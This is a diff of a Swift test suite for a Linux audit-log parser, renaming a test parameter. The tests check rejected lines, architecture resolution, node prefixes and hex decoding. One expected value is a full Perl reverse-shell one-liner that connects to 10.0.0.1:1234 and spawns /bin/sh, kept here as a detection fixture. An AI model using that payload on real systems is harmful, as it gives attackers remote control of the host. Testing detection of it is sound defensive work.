@@ -69,11 +69,11 @@ struct CorpusTests {
               Rejected(file: "threathunters-io__laurel/src__testdata__shell-proc-trace.txt", line: 1, kind: .notAnAuditRecord,
                        why: "# comment line"),
           ])
-    func rejected(_ case_: Rejected) throws {
-        let parsed = try ParsedLog(path: TestPaths.corpus(case_.file))
-        let rejection = try #require(parsed.rejections[case_.line], "\(case_.why)")
-        #expect(rejection.reason.kind == case_.kind, "\(case_.why)")
-        #expect(parsed.records[case_.line] == nil)
+    func rejected(_ testCase: Rejected) throws {
+        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
+        let rejection = try #require(parsed.rejections[testCase.line], "\(testCase.why)")
+        #expect(rejection.reason.kind == testCase.kind, "\(testCase.why)")
+        #expect(parsed.records[testCase.line] == nil)
     }
 
     struct Arch: Sendable, CustomTestStringConvertible {
@@ -95,17 +95,17 @@ struct CorpusTests {
               Arch(file: "threathunters-io__laurel/src__testdata__record-execve.txt", line: 1,
                    arch: 0xC000_003E, number: 59, kind: .execve, machine: "x86_64"),
           ])
-    func archResolves(_ case_: Arch) throws {
-        let parsed = try ParsedLog(path: TestPaths.corpus(case_.file))
-        let record = try #require(parsed.records[case_.line])
+    func archResolves(_ testCase: Arch) throws {
+        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
+        let record = try #require(parsed.records[testCase.line])
         guard case .syscall(let syscall) = record.body else {
-            Issue.record("\(case_.file):\(case_.line) is not a SYSCALL record"); return
+            Issue.record("\(testCase.file):\(testCase.line) is not a SYSCALL record"); return
         }
-        #expect(syscall.arch == case_.arch)
-        #expect(syscall.number == case_.number)
-        #expect(syscall.syscall == case_.kind)
-        #expect(SyscallKind.resolve(arch: syscall.arch, number: syscall.number) == case_.kind)
-        #expect(SyscallKind.machineName(arch: syscall.arch) == case_.machine)
+        #expect(syscall.arch == testCase.arch)
+        #expect(syscall.number == testCase.number)
+        #expect(syscall.syscall == testCase.kind)
+        #expect(SyscallKind.resolve(arch: syscall.arch, number: syscall.number) == testCase.kind)
+        #expect(SyscallKind.machineName(arch: syscall.arch) == testCase.machine)
     }
 
     struct Node: Sendable, CustomTestStringConvertible {
@@ -120,12 +120,12 @@ struct CorpusTests {
               Node(file: "threathunters-io__laurel/src__testdata__record-execve.txt", node: "work", lines: 7),
               Node(file: "elastic__beats/filebeat__module__auditd__log__test__audit-cent7-node.log", node: "localhost.localdomain", lines: 10),
           ])
-    func nodePrefix(_ case_: Node) throws {
-        let parsed = try ParsedLog(path: TestPaths.corpus(case_.file))
+    func nodePrefix(_ testCase: Node) throws {
+        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
         #expect(parsed.rejections.isEmpty)
-        #expect(parsed.records.count == case_.lines)
+        #expect(parsed.records.count == testCase.lines)
         for (number, record) in parsed.records {
-            #expect(record.node == case_.node, "line \(number)")
+            #expect(record.node == testCase.node, "line \(number)")
         }
     }
 
@@ -148,18 +148,18 @@ struct CorpusTests {
               Decoded(file: "threathunters-io__laurel/src__testdata__record-perl-reverse-shell.txt", line: 2, field: "a2",
                       value: #"use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#),
           ])
-    func hexDecoded(_ case_: Decoded) throws {
-        let parsed = try ParsedLog(path: TestPaths.corpus(case_.file))
-        let record = try #require(parsed.records[case_.line])
+    func hexDecoded(_ testCase: Decoded) throws {
+        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
+        let record = try #require(parsed.records[testCase.line])
         let value: LogString?
-        switch (record.body, case_.field) {
+        switch (record.body, testCase.field) {
         case (.syscall(let syscall), "exe"): value = syscall.exe
         case (.execve(let execve), let field) where field.hasPrefix("a"):
             let index = Int(field.dropFirst())
             value = execve.arguments.first { $0.index == index && $0.chunk == nil }?.value
         default: value = nil
         }
-        #expect(value == LogString(case_.value))
+        #expect(value == LogString(testCase.value))
     }
 
     @Test("a malformed display id (ses=4296967295) leaves the SYSCALL record in place",
